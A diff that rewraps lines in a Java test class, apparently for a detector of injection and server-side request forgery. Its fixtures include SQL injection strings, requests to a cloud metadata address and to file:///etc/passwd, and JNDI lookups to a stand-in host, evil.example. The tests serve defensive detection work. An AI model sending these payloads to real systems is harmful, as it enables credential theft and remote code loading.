@@ -32,7 +32,8 @@ class SinkChecksTest {
 
   @Test
   void sqlInputThatBringsItsOwnStructureIsInjection() {
-    assertEquals("sqli.comment", sql("SELECT * FROM u WHERE name = '\\'' OR 1=1 -- '", SqlDialect.MYSQL, "\\' OR 1=1 -- "),
+    assertEquals("sqli.comment",
+        sql("SELECT * FROM u WHERE name = '\\'' OR 1=1 -- '", SqlDialect.MYSQL, "\\' OR 1=1 -- "),
         "the app doubled the quote, MySQL reads the backslash");
     assertEquals("sqli.token-structure",
         sql("SELECT * FROM users WHERE name = 'x' OR '1'='1'", SqlDialect.ANSI, "x' OR '1'='1"));
@@ -150,7 +151,8 @@ class SinkChecksTest {
 
   @Test
   void urlsSteeredByInput() {
-    assertEquals("ssrf.metadata", url("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"));
+    assertEquals("ssrf.metadata",
+        url("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"));
     assertEquals("ssrf.internal-address", url("http://2130706433:8080/admin", "2130706433:8080"));
     assertEquals("ssrf.scheme", url("file:///etc/passwd", "file:///etc/passwd"));
     assertNull(url("http://127.0.0.1:9/search?q=abc", "abc"), "an input in the query does not steer the host");
@@ -162,8 +164,10 @@ class SinkChecksTest {
 
   @Test
   void jndiAndXml() {
-    assertEquals("jndi.remote-lookup", JndiCheck.check("ldap://evil.example/a", inputs("${jndi:ldap://evil.example/a}")).finding.reason());
-    assertEquals("jndi.remote-lookup", JndiCheck.check("rmi://evil.example:1099/a", inputs("evil.example:1099")).finding.reason());
+    assertEquals("jndi.remote-lookup",
+        JndiCheck.check("ldap://evil.example/a", inputs("${jndi:ldap://evil.example/a}")).finding.reason());
+    assertEquals("jndi.remote-lookup",
+        JndiCheck.check("rmi://evil.example:1099/a", inputs("evil.example:1099")).finding.reason());
     assertNull(JndiCheck.check("java:comp/env/jdbc/db", inputs("jdbc/db")));
     assertNull(JndiCheck.check("ldap://directory.internal/ou=people", inputs("people")));
     assertEquals("xxe.external-entity", XmlCheck.check(
